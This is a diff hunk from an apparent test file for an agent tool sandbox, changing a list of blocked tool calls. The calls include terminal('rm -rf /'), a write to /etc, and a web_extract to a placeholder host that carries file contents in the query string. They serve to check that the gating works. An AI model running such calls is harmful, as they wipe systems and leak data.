@@ -200,11 +200,11 @@ async def test_no_script_starts_another_or_asks_a_person(tmp_path: Path) -> None
 
 
 GATES = """
-from hermes_tools import terminal, write_file, web_search, ToolError
+from hermes_tools import terminal, write_file, web_extract, ToolError
 for do in (
     lambda: terminal("rm -rf /"),
     lambda: write_file("/etc/hermes-test", "x"),
-    lambda: web_search("what the file said"),
+    lambda: web_extract("https://example.invalid/?d=what-the-file-said"),
     lambda: write_file(17),
 ):
     try:
